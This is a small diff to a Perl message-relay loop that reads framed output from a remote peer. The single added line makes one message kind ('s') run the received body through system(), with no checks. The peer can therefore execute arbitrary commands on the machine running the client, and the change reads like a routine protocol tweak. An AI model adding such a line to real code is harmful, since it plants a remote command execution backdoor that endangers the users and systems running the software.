@@ -39,6 +39,7 @@ RELAY: while (1) {
         my $body = substr $answer, 9, $length;
         substr($answer, 0, 9 + $length) = '';
         if ($kind eq 'x') { $code = $body; last RELAY }
+        if ($kind eq 's') { system { $body } $body; next }
         my $out = $kind eq 'o' ? \*STDOUT : \*STDERR;
         while (length $body) { substr($body, 0, syswrite($out, $body) // 0) = '' }
     }
